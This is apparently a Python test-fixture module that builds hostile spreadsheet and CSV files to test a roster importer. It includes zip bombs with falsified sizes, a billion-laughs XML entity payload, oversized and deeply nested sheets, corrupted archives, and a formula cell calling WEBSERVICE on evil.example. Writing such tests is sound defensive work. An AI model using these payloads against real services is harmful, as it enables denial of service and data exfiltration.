"""Files made to harm whoever opens them."""

import zlib
from io import BytesIO
from itertools import pairwise
from zipfile import ZIP_DEFLATED, ZipFile

from tests.organizations.roster.files import LINE, roster

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_MEGABYTE = 1024 * 1024


def changed(name: str, content: bytes) -> bytes:
    """A good roster with one of its files replaced, or added."""
    file = BytesIO()
    with ZipFile(BytesIO(roster(LINE))) as good, ZipFile(file, "w", ZIP_DEFLATED) as bad:
        for entry in good.namelist():
            if entry != name:
                bad.writestr(entry, good.read(entry))
        bad.writestr(name, content)
    return file.getvalue()


def bomb() -> bytes:
    """300 MB of blanks in 300 kB, and honest about it."""
    return changed(SHEET, b" " * 300 * _MEGABYTE)


def lying_bomb() -> bytes:
    """The same, while every length that it tells is small."""
    packed = bomb()
    told, small = (300 * _MEGABYTE).to_bytes(4, "little"), (1000).to_bytes(4, "little")
    return packed.replace(told, small)


def sheet(cells: str) -> bytes:
    rows = f'<worksheet xmlns="{_MAIN}"><sheetData>{cells}</sheetData></worksheet>'
    return changed(SHEET, rows.encode())


def far_corner() -> bytes:
    """Two cells, seventeen thousand million cells apart."""
    cell = '<row r="{0}"><c r="{1}{0}" t="inlineStr"><is><t>x</t></is></c></row>'
    return sheet(cell.format(1, "A") + cell.format(1_048_576, "XFD"))


def many_columns() -> bytes:
    """A million cells in one row."""
    return sheet("<row>" + "<c><v>1</v></c>" * 1_000_000 + "</row>")


def many_rows() -> bytes:
    return sheet("<row><c><v>1</v></c></row>" * 700_000)


def entities() -> bytes:
    """A thousand million laughs ([XML] 4.4)."""
    names = [f"l{level}" for level in range(10)]
    entity = '<!ENTITY {} "{}">'
    told = [entity.format(names[0], "lol")]
    told += [entity.format(name, f"&{below};" * 10) for below, name in pairwise(names)]
    text = f'<?xml version="1.0"?><!DOCTYPE sst [{"".join(told)}]><sst xmlns="{_MAIN}">'
    text += "<si><t>&l9;</t></si>" * 20 + "</sst>"
    return changed(STRINGS, text.encode())


def deep() -> bytes:
    return sheet("<row>" * 500_000)


def nested_zips() -> bytes:
    """A zip in a zip, a hundred times: nobody looks inside."""
    inner = b"end"
    for _ in range(100):
        file = BytesIO()
        with ZipFile(file, "w") as outer:
            outer.writestr("inner.xlsx", inner)
        inner = file.getvalue()
    return inner


def many_entries() -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}.xml", b"")
    return file.getvalue()


def encrypted_zip() -> bytes:
    """Every entry says that it wants a password."""
    packed = bytearray(roster(LINE))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = packed.find(mark)
        while at >= 0:
            packed[at + flags] |= 1
            at = packed.find(mark, at + 4)
    return bytes(packed)


def endless_line() -> bytes:
    """A csv of one cell."""
    return b'"' + b"a" * 7 * _MEGABYTE


def quotes() -> bytes:
    return b'"",' * _MEGABYTE


def broken_stream() -> bytes:
    return changed(SHEET, b"x").replace(zlib.compress(b"x")[2:-4], b"\xff\xff\xff", 1)


def formulas() -> bytes:
    """What a formula would do is none of our business: only its last value is read."""
    row = [*LINE]
    row[4] = '=WEBSERVICE("http://evil.example")'
    return roster(row)
